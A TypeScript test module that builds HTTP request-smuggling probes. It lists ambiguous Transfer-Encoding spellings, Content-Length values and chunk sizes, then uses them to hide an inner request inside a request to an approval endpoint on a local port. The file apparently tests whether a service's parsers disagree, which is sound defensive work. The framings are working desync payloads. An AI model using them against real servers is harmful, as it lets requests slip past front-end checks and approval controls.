import { exchanged } from './raw-sockets.ts';

/** One message that two HTTP parsers may cut at different places. */
export interface Framing {
  name: string;
  /** Lines of the head that frame the body; `{n}` is the length of the whole body. */
  head: string;
  /** What stands before the hidden request, and after it. */
  before: string;
  after: string;
}

/** The spellings of `Transfer-Encoding: chunked` that some parsers take and others do not. */
const CHUNKED = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: Chunked',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: chunked\r\nTransfer-encoding: chunked',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding:\x0cchunked',
  'Transfer-Encoding: chunked\x00',
  'Transfer-Encoding:\r\n chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  ' Transfer-Encoding: chunked',
  'Transfer-Encoding: \u00a0chunked',
];

/** Lengths that some parsers read as a number, and others as another or none. */
const LENGTHS = [
  '+{n}',
  '-{n}',
  '0x{x}',
  '{n} ',
  ' {n}',
  '0{n}',
  '{n}, {n}',
  '{n}, 0',
  '{n}\r\nContent-Length: 0',
  '0\r\nContent-Length: {n}',
  '{n};',
  '{n}.0',
  '{n}e0',
  '\x0b{n}',
  '{n}\x00',
  '\u0660',
];

/** Sizes of chunks that some parsers read as 0, or as another number. */
const SIZES = [
  '0',
  '00',
  '0x0',
  '+0',
  '-0',
  ' 0',
  '0 ',
  '0;ext',
  '0;ext="\r\n"',
  '0\n',
  '\r\n0',
  'g',
  '0,',
  '100000000000000000',
];

/** Every ambiguous framing: the hidden request follows what one parser takes for the end of the body. */
export const FRAMINGS: readonly Framing[] = [
  ...CHUNKED.flatMap((line) => [
    {
      name: `length, then ${JSON.stringify(line)}`,
      head: `Content-Length: {n}\r\n${line}`,
      before: '0\r\n\r\n',
      after: '',
    },
    {
      name: `${JSON.stringify(line)}, then length`,
      head: `${line}\r\nContent-Length: {n}`,
      before: '0\r\n\r\n',
      after: '',
    },
    // A parser that takes the length of the first line, and not the chunks, runs what is inside the chunk.
    {
      name: `short length, then ${JSON.stringify(line)}`,
      head: `Content-Length: 4\r\n${line}`,
      before: '{x}\r\n',
      after: '\r\n0\r\n\r\n',
    },
  ]),
  ...LENGTHS.map((length) => ({
    name: `a length of ${JSON.stringify(length)}`,
    head: `Content-Length: ${length}`,
    before: '',
    after: '',
  })),
  ...SIZES.slice(1).map((size) => ({
    name: `a last chunk of ${JSON.stringify(size)}`,
    head: 'Transfer-Encoding: chunked\r\nContent-Length: {n}',
    before: `${size}\r\n\r\n`,
    after: '',
  })),
  { name: 'a GET with a body', head: 'Content-Length: {n}', before: '', after: '' },
];

const head = (authorization: string) => `Host: x\r\nAuthorization: ${authorization}\r\nContent-Type: application/json`;

/** The request inside another one: it would open a request of this service. */
export function hidden(authorization: string, service: string): string {
  const body = JSON.stringify({ service, action: 'read', payload: { page: 1 } });
  return `POST /api/ingest HTTP/1.1\r\n${head(authorization)}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`;
}

/** Sends one message with a request inside. Returns what the server answered. */
export async function smuggle(
  port: number,
  authorization: string,
  { name, head: framing, before, after }: Framing,
  service: string,
): Promise<string> {
  const inner = hidden(authorization, service);
  const hex = inner.length.toString(16);
  const body = `${before.replaceAll('{x}', hex)}${inner}${after}`;
  const lines = framing.replaceAll('{n}', String(body.length)).replaceAll('{x}', body.length.toString(16));
  const method = name === 'a GET with a body' ? 'GET' : 'POST';
  const message = `${method} /api/approval-requests${method === 'GET' ? '' : '/req_none/cancel'} HTTP/1.1\r\n${head(authorization)}\r\n${lines}\r\n\r\n${body}`;
  return (await exchanged(port, [Buffer.from(message, 'latin1')], 'stay')).toString('latin1');
}
